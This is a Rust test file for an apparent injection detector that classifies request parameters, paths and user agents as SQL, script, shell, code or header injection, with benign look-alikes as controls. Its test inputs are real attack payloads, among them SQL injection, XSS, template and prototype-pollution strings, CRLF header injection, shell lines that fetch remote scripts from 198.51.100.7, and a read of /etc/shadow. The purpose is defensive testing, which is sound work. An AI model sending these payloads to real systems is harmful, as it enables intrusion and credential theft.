use super::{grammar, injected_code, patterns, query_facts};

fn query(q: &str) -> Option<&'static str> {
    injected_code(Some("/"), Some(q), None)
}

#[test]
fn every_pattern_compiles() {
    let sources = patterns();
    for (_, p) in &sources {
        regex::bytes::RegexBuilder::new(p)
            .case_insensitive(true)
            .unicode(false)
            .build()
            .unwrap_or_else(|e| panic!("{p}: {e}"));
    }
    assert_eq!(grammar().set.len(), sources.len());
}

/// SQL statements, stacked queries, subqueries, catalogues and closed quotes, encoded as
/// injection tools send them.
#[test]
fn sql_in_a_parameter_is_sql() {
    for q in [
        "id=1%20UNION%20ALL%20SELECT%20NULL,NULL,NULL--",
        "id=-1+union/**/select+1,2,version()",
        "cat=1/*!50000UNION*//*!50000SELECT*/1,2",
        "q=x%27%3B+DROP+TABLE+users%3B--",
        "id=1;insert into log(msg) values ('x')",
        "sort=(select+password+from+users+limit+1)",
        "name=admin%27--",
        "user=x%27+or+%271%27%3D%271",
        "pw=%22)+or+(%22a%22%3D%22a",
        "id=1+and+1%3D2",
        "q=select+*+from+accounts",
        "t=information_schema.tables",
        "v=1;exec+master..xp_cmdshell+%27dir%27",
        "a=1;waitfor+delay+%270:0:5%27",
        "x=create+function+f(s+char(20))+returns+char(50)+return+s",
        "id=%2527%2520or%25201%253D1",
    ] {
        assert_eq!(query(q), Some("sql"), "{q}");
    }
}

#[test]
fn markup_and_script_are_script() {
    for q in [
        "q=%3Cimg%20src%3Dx%20onerror%3Dalert(1)%3E",
        "q=<svg/onload=confirm`1`>",
        "name=<x:script xmlns:x=%22http://www.w3.org/1999/xhtml%22>",
        "redirect=javascript:alert(document.domain)",
        "cb=x%22;setTimeout(name,1)//",
        "s=%27-alert(1)-%27",
        "u=%3Ciframe+src%3Dhttps://evil.example%3E",
        "style=-moz-binding:url(http://x/x.xml%23x)",
        "d=data:text/html;base64,PHNjcmlwdD4=",
        "x=%3C%2Fscript%3E%3Cscript%3Ealert(1)%3C%2Fscript%3E",
        "q=%27%22%3E%3Cb%3Ex",
    ] {
        assert_eq!(query(q), Some("script"), "{q}");
    }
}

#[test]
fn shell_invocations_are_shell() {
    for q in [
        "cmd=sh+-c+%22id%22",
        "code=busybox+wget+http://198.51.100.7/x",
        "c=echo+aWQ%3D|base64+-d|sh",
        "x=wget+-q+http://198.51.100.7/a.sh",
        "f=cat+/etc/shadow",
        "p=Invoke-WebRequest+http://198.51.100.7/p.ps1",
        "c=cmd.exe+/c+whoami",
        "u=mshta+http://198.51.100.7/a.hta",
        "r=;reg+add+HKLM\\Software\\x",
        "x=powershell+-enc+SQBFAFgA",
    ] {
        assert_eq!(query(q), Some("shell"), "{q}");
    }
}

#[test]
fn server_side_code_is_code() {
    for q in [
        "x=%3C%3Fphp%20system(%27id%27)%3B%20%3F%3E",
        "tpl={php}echo 1;{/php}",
        "a=$_SERVER[%27HTTP_HOST%27]",
        "f=php://filter/convert.base64-encode/resource=index",
        "file=data://text/plain;base64,PD9waHA=",
        "x=base64_decode(%27aWQ=%27)",
        "__proto__[isAdmin]=true",
        "a[constructor][prototype][x]=1",
        "n=require(%27child_process%27).execSync(%27id%27)",
        "name={{7*7}}",
        "name=%23%7Bprocess.mainModule%7D",
        "x=${T(java.lang.Runtime).getRuntime().exec(%27id%27)}",
        "s=ssh2.exec://u:p@h/id",
    ] {
        assert_eq!(query(q), Some("code"), "{q}");
    }
}

/// What people and applications send: searches with quotes and SQL-sounding words, e-mail
/// addresses, JSON and filters, redirects, dates, code words in prose.
#[test]
fn ordinary_parameters_are_not_code() {
    for q in [
        "q=select+a+plan+from+the+list",
        "q=O%27Reilly+and+sons",
        "q=rock+%27n%27+roll",
        "q=union+station+parking",
        "q=drop+down+menu",
        "q=insert+into+cart",
        "q=update+your+profile",
        "q=%22exact+phrase%22+and+more",
        "q=it%27s+a+5%25+or+10%25+discount",
        "email=jane.doe%2Btag@example.com",
        "filter={%22status%22:[%22open%22,%22closed%22]}",
        "next=/account/orders?id=5&sort=-created_at",
        "from=2024-01-01T00:00:00Z&to=2024-01-31",
        "fields=id,name,price(amount,currency)",
        "q=how+to+use+sh+in+scripts",
        "q=curl+tutorial",
        "q=system+design+interview",
        "q=5+%3C+x+%3E+2",
        "_=1717171717171&callback=jQuery3600_1717",
        "_g=(time:(from:now-15m,to:now))&_a=(query:(language:kuery,query:''))",
        "q=Tom%27s+and+Jerry%27s",
        "q=C%23+and+F%23",
        "utm_source=news&utm_medium=email&utm_campaign=spring_sale",
        "q=%E2%80%9Cquoted%E2%80%9D+text",
        "redirect_uri=http://127.0.0.1:8765/callback&state=a1b2",
    ] {
        assert_eq!(query(q), None, "{q}");
    }
}

/// Browsers' and tools' user agents carry `;`, `(` and spaces, never code; tools naming
/// themselves with shell words (`curl`) are not shell.
#[test]
fn user_agents_are_not_code_unless_they_carry_it() {
    for ua in [
        "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/124.0.0.0 Safari/537.36",
        "Mozilla/5.0 (iPhone; CPU iPhone OS 17_5 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Mobile/15E148",
        "curl/8.5.0",
        "Wget/1.21.4",
        "python-requests/2.31.0",
        "MyApp/1.0 (iPhone; Update 3; Select Edition)",
    ] {
        assert_eq!(injected_code(Some("/"), None, Some(ua)), None, "{ua}");
    }
    assert_eq!(
        injected_code(Some("/"), None, Some("<script>alert(1)</script>")),
        Some("script")
    );
    assert_eq!(
        injected_code(Some("/"), None, Some("x' or 1=1-- ")),
        Some("sql")
    );
}

#[test]
fn paths_carry_code_too() {
    assert_eq!(
        injected_code(
            Some("/products/1%20union%20select%20password%20from%20users"),
            None,
            None
        ),
        Some("sql")
    );
    assert_eq!(
        injected_code(Some("/files/My%20Report%20(final).pdf"), None, None),
        None
    );
}

/// Long hostile values stay linear: a megabyte of what the patterns look for costs one pass.
#[test]
fn long_repeated_values_are_read_once() {
    const MIB: usize = 1 << 20;
    for unit in ["<a ", "' or ", "{{", "select ", "/**/", "|", "%27"] {
        let q = format!("v={}", unit.repeat(MIB / unit.len()));
        let started = std::time::Instant::now();
        let _ = query_facts(Some(&q));
        assert!(
            started.elapsed() < std::time::Duration::from_secs(5),
            "{unit:?} repeated took {:?}",
            started.elapsed()
        );
    }
}

/// A text without a byte of the gate is answered without the patterns: the patterns
/// themselves must find nothing in such texts either, however many keywords they hold.
#[test]
fn the_gate_skips_only_texts_no_pattern_matches() {
    for word in [
        "unionselect",
        "UNIONALLSELECTNULL",
        "constructorprototype",
        "phpinfo",
        "selectfromwhere",
        "xpcmdshell",
        "pgsleep",
        "informationschema",
        "shc",
        "wgethttp",
        "12345",
    ] {
        assert!(!super::may_hold_code(word), "{word}");
        assert!(!grammar().set.is_match(word.as_bytes()), "{word}");
    }
    assert_eq!(query("constructor.prototype.polluted=1"), Some("code"));
}

#[test]
fn a_header_after_a_line_break_is_header_injection() {
    for q in [
        "lang=en%0d%0aSet-Cookie:%20x=1",
        "r=%0aLocation:%20https://evil.example",
        "next=/%0D%0AX-Injected:%20yes",
    ] {
        assert_eq!(query(q), Some("header"), "{q}");
    }
    for q in [
        "note=line%20one%0Aline%20two",
        "msg=Dear%20team,%0D%0Athanks%20a%20lot",
    ] {
        assert_eq!(query(q), None, "{q}");
    }
}
